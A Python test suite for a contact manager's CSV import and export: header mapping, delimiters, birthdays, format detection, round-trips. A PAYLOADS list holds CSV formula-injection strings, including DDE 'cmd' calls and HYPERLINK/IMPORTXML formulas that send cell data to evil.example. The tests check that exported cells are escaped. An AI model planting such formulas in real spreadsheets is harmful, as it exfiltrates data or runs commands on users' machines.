"""Address books as CSV: headers understood, rows kept or reported, cells guarded on the way out."""

from __future__ import annotations

import csv as standard_csv
import io
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from crm.domain.invalid import Invalid
from crm.formats import csv
from crm.formats.detect import detect
from crm.formats.records import BadRow, ContactRecord, FormatError
from crm.formats.text_file import open_text

FIXTURES = Path(__file__).parent / "fixtures"
SAMPLES = Path(__file__).parents[2].parent / "shared" / "samples"

PAYLOADS = [
    *(sign + rest for sign in "=+-@\t\r" for rest in ("", "1+1", "cmd|' /C calc'!A0", "SUM(A1)")),
    '=HYPERLINK("http://evil.example?x="&A1,"Error: click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a/a10")',
    "=WEBSERVICE(A1)",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "=1,2",
    "=1;2",
    "=1\n=2",
    "=1\r\n=2",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''=1+1",
    "'+34 600",
    "'''@x",
    "'quoted'",
    "'",
    "''",
    '"=1+1"',
    '=""',
    "a=b",
    "=é",
    "=ñ☕",
    "=" * 50,
    "-",
    "@ana",
    "--",
]


def read_text(
    text: str, mapping: dict[str, str] | None = None
) -> tuple[list[ContactRecord], list[BadRow]]:
    return split(list(csv.read_contacts(io.StringIO(text, newline=""), mapping)))


def read_file(path: Path) -> tuple[list[ContactRecord], list[BadRow]]:
    file = open_text(path)
    with file.stream:
        assert detect(file.head) == "csv"
        return split(list(csv.read_contacts(file.stream)))


def split(items: list[ContactRecord | BadRow]) -> tuple[list[ContactRecord], list[BadRow]]:
    people = [item for item in items if isinstance(item, ContactRecord)]
    return people, [item for item in items if isinstance(item, BadRow)]


def test_google_numbered_columns_joins_and_nameless_rows() -> None:
    records, bad = read_file(FIXTURES / "google_new.csv")
    assert records[0] == ContactRecord(
        line=2,
        source="csv",
        external_id="ines@example.com",
        name="Inés Robledo",
        given_name="Inés",
        family_name="Robledo",
        organisation="Faro",
        title="Abogada",
        city="Vigo",
        emails=("ines@example.com", "ines@example.org", "casa@example.net"),
        phones=("+34 600 000 001", "+34 600 000 002"),
        links=("https://faro.example",),
        tags=("Clients",),
        notes='likes "tea"\nand hills',
        birthday="--12-01",
    )
    assert [(r.line, r.name) for r in records[1:]] == [(4, "Solo Org"), (6, "only@example.com")]
    assert bad == [BadRow(5, "empty-row", {})]


def test_nobody_is_called_by_what_is_no_number_and_no_address() -> None:
    records, bad = read_text(
        "Mail,Phone\nana@x.org,12\n,12\nana ruiz@x.org,1\nno address,\n,12 ::: 600 111\n"
    )
    assert [(r.line, r.name) for r in records] == [(2, "ana@x.org"), (6, "600 111")]
    assert bad == [BadRow(line, "empty-row", {}) for line in (3, 4, 5)]


def test_outlook_title_is_a_salutation_and_fax_no_phone() -> None:
    records, bad = read_file(FIXTURES / "outlook_utf16.csv")
    noor = records[0]
    assert (noor.name, noor.title, noor.city) == ("Noor A. Haddad", "Buyer", "Beirut")
    assert noor.phones == ("111", "222")
    assert noor.birthday == ""
    assert not bad


def test_spanish_columns_second_surname_and_cells_that_cannot_be_read() -> None:
    records, bad = read_file(FIXTURES / "generic_spanish.csv")
    aitana, blas = records
    assert (aitana.name, aitana.family_name) == ("Aitana Roca Vidal", "Roca Vidal")
    assert (aitana.city, aitana.birthday, aitana.met_on) == (
        "Málaga",
        "1990-03-14",
        date(2024, 2, 1),
    )
    assert (aitana.tags, aitana.notes) == (("diseño", "web"), "-10 % en mayo")
    assert (blas.line, blas.name, blas.emails) == (5, "Blas Soto", ())
    assert bad == [
        BadRow(5, "bad-email", {"value": "no-es-correo"}, imported=True),
        BadRow(5, "bad-met-on", {"value": "ayer"}, imported=True),
        BadRow(5, "bad-birthday", {"value": "31/31/1990"}, imported=True),
    ]


@pytest.mark.parametrize(
    ("path", "names", "emails", "phones"),
    [
        ("monicahq__monica/single_contact_stub.csv", "Bono Paul David Hewson", 0, 0),
        ("roundcube__roundcubemail/all.csv", "Display Name", 3, 8),
        (
            "roundcube__roundcubemail/email.csv",
            "test1@domain.tld, test2@domain.tld, test3@domain.tld, test4@domain.tld",
            4,
            0,
        ),
        ("roundcube__roundcubemail/gmail.csv", "Prefix Firstname Middle Lastname Suffix", 4, 7),
        ("roundcube__roundcubemail/outlook.csv", "test1@domain.tld", 3, 0),
        ("roundcube__roundcubemail/tb_plain.csv", "Displayname", 2, 3),
        ("web/google-new_rolomind.csv", "John Doe, Jane Smith, Bob Wilson, Alice Brown", 4, 3),
        ("web/google-old_expconnor.csv", None, 8, 14),
        ("web/thunderbird_basic.csv", "John Doe, Jane Doe", 2, 0),
    ],
)
def test_real_samples_give_every_person(
    path: str, names: str | None, emails: int, phones: int
) -> None:
    # Fax and pager numbers are left out, and the stub's e-mail stands in a column with no header.
    if not (SAMPLES / path).exists():
        pytest.skip("the samples are not part of the project and are not here")
    records, bad = read_file(SAMPLES / path)
    assert not bad
    assert names is None or ", ".join(record.name for record in records) == names
    assert names is not None or len(records) == 8
    assert sum(len(record.emails) for record in records) == emails
    assert sum(len(record.phones) for record in records) == phones


@pytest.mark.parametrize(
    ("header", "mapping"),
    [
        ("Nombre,Teléfono", {"Nombre": "name", "Teléfono": "phones"}),
        ("Nombre,Apellidos", {"Nombre": "given_name", "Apellidos": "family_name"}),
        ("Name,Title,Job Title", {"Name": "name", "Job Title": "title"}),
        ("name,title", {"name": "name", "title": "title"}),
        ("Full Name,Name", {"Name": "name"}),
        ("E-MAIL:,WhatsApp", {"E-MAIL:": "emails", "WhatsApp": "phones"}),
        ("Name,Email Opt Out,Phone Type", {"Name": "name"}),
        ("Name,Apellido 1,Apellido 2", {
            "Name": "name", "Apellido 1": "family_name", "Apellido 2": "second_family_name",
        }),
        ("uid,name,known_since,met_at,cadence", {
            "uid": "external_id", "name": "name", "known_since": "known_since",
            "met_at": "met_at", "cadence": "cadence",
        }),
        ("foo,,bar", {}),
    ],
)  # fmt: skip
def test_headers_are_guessed(header: str, mapping: dict[str, str]) -> None:
    assert csv.guess_mapping(header.split(",")) == mapping


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_delimiter_is_found(delimiter: str) -> None:
    text = "\n \nname,email,notes\nAna,ana@x.com,hi\n".replace(",", delimiter)
    layout = csv.layout_of(io.StringIO(text))
    assert (layout.delimiter, layout.line) == (delimiter, 3)
    assert read_text(text)[0][0].emails == ("ana@x.com",)


def test_excels_separator_line_is_obeyed() -> None:
    records, _ = read_text('\ufeffsep=;\r\nname;email\r\n"Ruiz; Ana";ana@x.com\r\n')
    assert (records[0].line, records[0].name) == (3, "Ruiz; Ana")


def test_the_users_mapping_goes_over_the_guesses() -> None:
    text = "Name,Legal Name,Notes,Where\nAna,Ana Ruiz,secret,Lugo\n"
    records, _ = read_text(text, {"legal name": "nombre", "Notes": "ignore", "Where": "city"})
    assert (records[0].name, records[0].notes, records[0].city) == ("Ana Ruiz", "", "Lugo")


@pytest.mark.parametrize(
    ("mapping", "code", "key"),
    [
        ({"Name": "shoe size"}, "unknown-field", "field"),
        ({"Shoe": "name"}, "unknown-column", "column"),
        ({"": "name"}, "unknown-column", "column"),
    ],
)
def test_a_mapping_that_fits_nothing_is_refused(
    mapping: dict[str, str], code: str, key: str
) -> None:
    with pytest.raises(Invalid) as caught:
        read_text("Name,Email\nAna,a@b.c\n", mapping)
    assert caught.value.code == code
    assert set(caught.value.params) == {key, "known"}


def test_columns_without_a_guess_can_be_mapped() -> None:
    text = "Wer,Wo\nAna,Lugo\n"
    with pytest.raises(FormatError, match="no-header"):
        read_text(text)
    assert read_text(text, {"Wer": "name"})[0][0].name == "Ana"


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("", "empty-file"),
        ("\n ,;\n\n", "empty-file"),
        ("\n" * 2_000 + "name\nAna\n", "no-header"),
        ("John,Doe,john@doe.invalid\n", "no-header"),
        ("name,email\n", "no-rows"),
        ("name,email\n,\n", "no-rows"),
        ("name" + "," * 2_000 + "\n", "too-many-columns"),
    ],
)
def test_a_file_without_people_is_an_error(text: str, code: str) -> None:
    with pytest.raises(FormatError) as caught:
        read_text(text)
    assert caught.value.code == code


def test_ragged_rows_and_repeated_columns_are_taken() -> None:
    records, bad = read_text("id,name,email,email,\n7,Ana\n8,Eva,e@x.es,f@x.es,a,b,c\n")
    assert [(r.external_id, r.name, r.emails) for r in records] == [
        ("7", "Ana", ()),
        ("8", "Eva", ("e@x.es", "f@x.es")),
    ]
    assert not bad


@pytest.mark.parametrize(
    ("cell", "emails"),
    [
        ("a@b.c; d@e.f", ("a@b.c", "d@e.f")),
        ("Ana Ruiz <a@b.c>", ("a@b.c",)),
        ("a@b.c ::: a@b.c", ("a@b.c",)),
    ],
)
def test_several_addresses_in_one_cell(cell: str, emails: tuple[str, ...]) -> None:
    assert read_text(f"name,email\nAna,{cell}\n")[0][0].emails == emails


@pytest.mark.parametrize(
    ("cells", "birthday"),
    [
        ("1990,3,4", "1990-03-04"),
        (",3,4", "--03-04"),
        ("1990,,", "1990"),
        (",,", ""),
    ],
)
def test_birthdays_in_three_columns(cells: str, birthday: str) -> None:
    text = f"name,Birth Year,Birth Month,Birth Day\nAna,{cells}\n"
    assert read_text(text)[0][0].birthday == birthday


def test_a_birthday_without_its_century_is_reported() -> None:
    records, bad = read_text("name,birthday\nAna,3/4/85\nEva,3/4/1985\n")
    assert [r.birthday for r in records] == ["", "1985-04-03"]
    assert [(b.line, b.code, b.imported) for b in bad] == [(2, "bad-birthday", True)]


def test_unknown_formats_are_named() -> None:
    for head, name in {
        "BEGIN:VCALENDAR\n": "icalendar",
        '{"version": 1}': "json",
        "<!DOCTYPE html>": "html",
        "### Activities:\n": "friends-md",
        "CONVERSATION ID,CONVERSATION TITLE,FROM\n": "linkedin-messages",
        "From,To,Sent At,Message,Direction\n": "linkedin-invitations",
    }.items():
        with pytest.raises(FormatError) as caught:
            detect(head)
        assert caught.value.params == {"format": name}
    with pytest.raises(FormatError, match="empty-file"):
        detect(" \n")
    assert detect("First Name,Last Name,Connected On\n") == "linkedin"
    assert detect("name\nAna\n") == "csv"
    assert detect("\ufeffBEGIN:VCARD\r\nVERSION:3.0\r\n") == "vcard"
    assert detect("Exported by a phone\nbegin:vcard\n") == "vcard"


def written(header: list[str], rows: list[list[object]], **options: bool) -> str:
    stream = io.StringIO(newline="")
    csv.write_rows(stream, header, rows, **options)
    return stream.getvalue()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_is_active_and_the_round_trip_is_exact(payload: str) -> None:
    header = ["name", "notes", "city", "phone"]
    text = written(header, [["Ana", payload, payload, payload]])
    cells = next(standard_csv.DictReader(io.StringIO(text, newline="")))
    for column in ("notes", "city"):
        assert not cells[column].startswith(("=", "+", "-", "@", "\t", "\r"))
    records, bad = read_text(text)
    assert not bad
    assert (records[0].notes, records[0].city) == (payload, payload)


@pytest.mark.parametrize(
    ("phone", "cell"),
    [
        ("+34 600 111 222", "+34 600 111 222"),
        ("+1-555-0123 ::: +44 (20) 7946", "+1-555-0123 ::: +44 (20) 7946"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("=1+1", "'=1+1"),
        ("@x", "'@x"),
        ("-5", "'-5"),
    ],
)
def test_only_real_phone_numbers_are_exempt(phone: str, cell: str) -> None:
    text = written(["name", "phone"], [["Ana", phone]])
    assert next(standard_csv.DictReader(io.StringIO(text, newline="")))["phone"] == cell
    assert csv.JOINER.join(read_text(text)[0][0].phones) == phone


def test_written_tables_are_stable() -> None:
    rows: list[list[object]] = [["Añá", None, -3, date(2024, 3, 1), "=x"]]
    header = ["name", "city", "score", "met_on", "notes"]
    body = "name,city,score,met_on,notes\r\nAñá,,-3,2024-03-01,"
    assert written(header, rows) == body + "'=x\r\n"
    assert written(header, rows, raw=True) == body + "=x\r\n"
    assert written(header, rows, excel=True) == "\ufeff" + body + "'=x\r\n"


def test_an_excel_file_is_read_back(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    text = written(["name", "notes"], [["Ana", "two\r\nlines"]], excel=True)
    path.write_bytes(text.encode())
    records, _ = read_file(path)
    assert (records[0].name, records[0].notes) == ("Ana", "two\r\nlines")


@pytest.mark.parametrize(
    "values",
    [
        ("design",),
        ("product design", "ux"),
        ("Designer, UX",),
        ("a; b", "c, d"),
        ("a/b",),
        (),
    ],
)
def test_joined_values_are_taken_apart_again(values: tuple[str, ...]) -> None:
    text = written(["name", "tags"], [["Ana", csv.join_values(values)]])
    assert read_text(text)[0][0].tags == values


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=20).map(
            str.strip
        ),
        min_size=2,
        max_size=2,
    )
)
def test_any_text_survives_the_round_trip(cells: list[str]) -> None:
    text = written(["name", "notes", "title"], [["Ana", *cells]])
    record = read_text(text)[0][0]
    assert [record.notes, record.title] == cells


@settings(max_examples=150, deadline=None)
@given(st.text(st.sampled_from('a",;\t\n\r\0|:<@> 9/é') | st.characters(), max_size=200))
def test_any_text_raises_nothing_but_format_errors(text: str) -> None:
    for whole in (text, "name,email,phone,tags,birthday,met on\n" + text):
        try:
            detect(whole)
            items = list(csv.read_contacts(io.StringIO(whole, newline="")))
        except FormatError:
            continue
        assert all(item.name for item in items if isinstance(item, ContactRecord))
